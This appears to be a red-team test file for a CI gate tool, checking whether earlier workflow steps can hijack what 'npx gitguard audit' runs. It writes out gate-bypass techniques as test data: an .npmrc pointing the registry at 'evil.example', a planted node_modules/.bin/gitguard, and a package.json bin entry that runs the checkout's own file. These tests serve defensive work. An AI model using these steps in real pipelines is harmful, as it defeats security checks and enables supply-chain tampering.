// redteam184: a direct `npx gitguard audit` runs no file of the checkout, but npx's own lookup reads
// some: from the folder it runs in up to the project's root, package.json (its `bin` of the name is
// what npx runs), node_modules/.bin/gitguard and .npmrc (the registry), and a version manager's file
// picks node. An unpacking, a copy or a download at the root (`tar -xzf x.tgz`, `unzip x.zip`, `cp -r
// /tmp/y/. .`, `rsync -a /tmp/y/ .`, `curl -O URL`) writes names of its own there; a told write of
// one of those files writes it. Either before the gate loses it; a write into a folder below the
// gate's (`-C build`, `cd docs && unzip`, a download in a matrix folder) or a tar that creates keeps it.
import { cleanupTemp } from '../helpers/repo.js';
import { gateBatch } from '../helpers/gate-batch.js';
import { checkoutJob, runStep } from '../helpers/workflow-steps.js';
import { cleanupJobs, jobPasses } from '../helpers/real-job.js';
import { offlineNpx } from '../helpers/offline-npx.js';

afterAll(() => {
  cleanupTemp();
  cleanupJobs();
});

const run = runStep;
const NPX = run('npx gitguard audit');
const job = (steps: string, gate = NPX): Record<string, string> => checkoutJob(steps, gate);
const wd = (d: string): string => `        working-directory: ${d}\n`;

type Case = [name: string, files: Record<string, string>];
const LOST: Case[] = [
  ['tar -xzf at the root', job(run('tar -xzf x.tgz'))],
  ['unzip at the root', job(run('unzip -q x.zip'))],
  ['cp -r /tmp/y/. .', job(run('cp -r /tmp/y/. .'))],
  ['rsync -a /tmp/y/ .', job(run('rsync -a /tmp/y/ .'))],
  ['curl -O at the root', job(run('curl -sSLO https://example.com/x/package.json'))],
  ['the gate line unpacks first', job('', run('tar -xzf x.tgz && npx gitguard audit'))],
  ['package.json with a bin', job(run('echo \'{"bin":{"gitguard":"g.js"}}\' > package.json'))],
  ['.npmrc', job(run('echo registry=https://evil.example/ > .npmrc'))],
  ['node_modules/.bin/gitguard', job(run('mkdir -p node_modules/.bin && cp g node_modules/.bin/gitguard'))],
  // The copy itself is no check (it runs nothing), though it names gitguard.
  ['a copy naming gitguard, no gate after it', job(run('cp g node_modules/.bin/gitguard'), run('echo done'))],
  ['.tool-versions', job(run('echo "nodejs 18.0.0" > .tool-versions'))],
  ['.nvmrc', job(run('echo 18 > .nvmrc'))],
  ['package.json above the gate folder', job(run('cp /tmp/p.json package.json'), run('npx gitguard audit', wd('web')))],
  ['unzip in the gate folder', job(run('unzip -q x.zip', wd('web')), run('npx gitguard audit', wd('web')))],
  ['cd to the root and unzip', job(run('cd web && cd .. && unzip -q x.zip'))],
  ['cd out and unzip, then unzip at the root', job(run('cd docs && unzip -q site.zip\nunzip -q x.zip'))],
];
const KEPT: Case[] = [
  ['tar -xzf -C build', job(run('tar -xzf x.tgz -C build'))],
  ['cd docs && unzip', job(run('cd docs && unzip -q site.zip'))],
  ['curl -sSLO in a matrix folder', job(run('curl -sSLO https://example.com/fixtures.tgz', wd('web')))],
  ['tar czf creates an archive', job(run('tar czf out.tgz dist'))],
  ['tar -cf with -C', job(run('tar -cf t.tar -C tools npx'))],
  ['a plain write', job(run('echo 1 > version.txt'))],
  ['package.json below the gate folder', job(run('mkdir -p web && echo {} > web/package.json'))],
  ['the gate line unpacks into build/', job('', run('tar -xzf x.tgz -C build && npx gitguard audit'))],
];

const DIRECT = job('');
describe('redteam184: what npx looks up, written before a direct gate', () => {
  const batch = gateBatch();
  for (const [name, files] of KEPT) it(`keeps the gate: ${name}`, batch.add(DIRECT, files, true), 600_000);
  for (const [name, files] of LOST) it(`loses the gate: ${name}`, batch.add(DIRECT, files, false), 600_000);
});

// The reference: npm's own npx, offline, in a job as the runner runs it. An unpacking at the root puts
// node_modules/.bin/gitguard where npx runs it; a package.json whose bin names gitguard makes npx run
// the checkout's file. Either passes the unsigned HEAD the job's gitguard would fail. Unpacked under
// build/, npx finds no gitguard (offline: it fails).
describe('redteam184: npx runs what was written at the root', () => {
  const { tgz, gate, cleanup } = offlineNpx('gitguard-rt184-');
  afterAll(cleanup);

  it('tar -xzf at the root: npx runs the archive’s gitguard', () => {
    expect(jobPasses([{ run: `tar -xzf "${tgz}"` }, gate])).toBe(true);
  });
  it('package.json with a bin: npx runs the checkout’s file', () => {
    const pkg = '{"name":"x","version":"1.0.0","bin":{"gitguard":"g.js"}}';
    expect(jobPasses([{ run: `echo '${pkg}' > package.json` }, gate], { 'g.js': '#!/usr/bin/env node\n' })).toBe(true);
  });
  it('tar -xzf -C build: npx finds none', () => {
    expect(jobPasses([{ run: `mkdir build && tar -xzf "${tgz}" -C build` }, gate])).toBe(false);
  });
});
